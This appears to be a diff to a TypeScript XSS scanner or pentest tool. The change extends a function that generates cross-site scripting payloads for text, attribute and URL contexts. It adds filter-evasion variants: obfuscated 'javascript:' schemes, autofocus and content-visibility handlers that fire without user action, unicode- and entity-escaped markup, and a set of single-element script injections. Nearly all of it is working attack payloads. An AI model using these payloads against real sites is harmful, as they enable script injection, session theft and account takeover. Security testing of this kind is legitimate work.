@@ -32,7 +32,7 @@ function payloads(context: ReflectionContext, token: string, code: string): stri
   ];
   switch (context.kind) {
     case 'text':
-      return [...elements, encodeURIComponent(elements[0] ?? ''), ...throughFilters(code)];
+      return [...elements, encodeURIComponent(elements[0] ?? ''), ...throughFilters(code), ...singleElements(code)];
     case 'raw-text':
       return elements.slice(0, 2).map((element) => `</${context.element}>${element}`);
     case 'comment':
@@ -43,17 +43,17 @@ function payloads(context: ReflectionContext, token: string, code: string): stri
       return [`autofocus onfocus=${code} x`, `x>${elements[0]}`];
     case 'attribute': {
       const outOfTag = elements.map((element) => `${context.quote}>${element}`);
-      const newAttribute = `${context.quote} autofocus onfocus=${code} x=${context.quote}`;
+      const newAttribute = `${context.quote} tabindex=1 autofocus onfocus=${code} x=${context.quote}`;
       const special = {
         plain: [],
-        url: [`javascript:${code}`, `JaVaScRiPt:${code}//`],
+        url: [`javascript:${code}`, `JaVaScRiPt:${code}//`, `java\tscript:${code}`, `javajavascript:script:${code}`],
         'script-source': [`//${token}.example/`],
         srcdoc: elements.slice(0, 2),
       }[context.role];
       // A hidden field takes no focus, but browsers with content-visibility fire this one without the user.
       const onHidden = `${context.quote} oncontentvisibilityautostatechange=${code} style=content-visibility:auto x=${context.quote}`;
-      const decodedTwice = encodeURIComponent(outOfTag[0] ?? '');
-      return [...special, ...outOfTag.slice(0, 1), newAttribute, onHidden, ...outOfTag.slice(1), decodedTwice];
+      const late = [encodeURIComponent(outOfTag[0] ?? ''), escaped(outOfTag[0] ?? ''), references(outOfTag[0] ?? '')];
+      return [...special, ...outOfTag.slice(0, 1), newAttribute, onHidden, ...outOfTag.slice(1), ...late];
     }
     case 'handler':
       return [
@@ -79,8 +79,34 @@ function throughFilters(code: string): string[] {
     `<scr<script>ipt>${code}</scr</script>ipt>`,
     `<img src=x onerror=${code} `,
     `<details open ontoggle=${code}><marquee onstart=${code}><video><source onerror=${code}></video><svg><animate onbegin=${code} attributeName=x dur=1s></svg><body onpageshow=${code}>`,
-    `\\u003cimg src=x onerror=${code}\\u003e`,
+    escaped(`<img src=x onerror=${code}>`),
+    references(`<img src=x onerror=${code}>`),
   ];
+}
+
+/** One element each, for filters that reject a value with any element that they do not know. */
+export function singleElements(code: string): string[] {
+  return [
+    `<script>${code}</script>`,
+    `<a href="javascript:${code}">x</a>`,
+    `<body onload=${code}>`,
+    `<iframe src="javascript:${code}"></iframe>`,
+    `<b onpointerenter=${code}>x</b>`,
+    `<div tabindex=1 autofocus onfocus=${code}>x</div>`,
+    `<input autofocus onfocus=${code}>`,
+    `<form action="javascript:${code}"><button>x</button></form>`,
+    `<x-y style="display:block;content-visibility:auto" oncontentvisibilityautostatechange=${code}>x</x-y>`,
+  ];
+}
+
+/** Escapes of JavaScript and JSON, which some servers decode. */
+function escaped(markup: string): string {
+  return markup.replace(/[<>"']/g, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`);
+}
+
+/** Character references of HTML, which some servers decode. */
+function references(markup: string): string {
+  return markup.replace(/[<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`);
 }
 
 /** XML has no elements that fail to load and fire: a script element of XHTML runs in any document. */
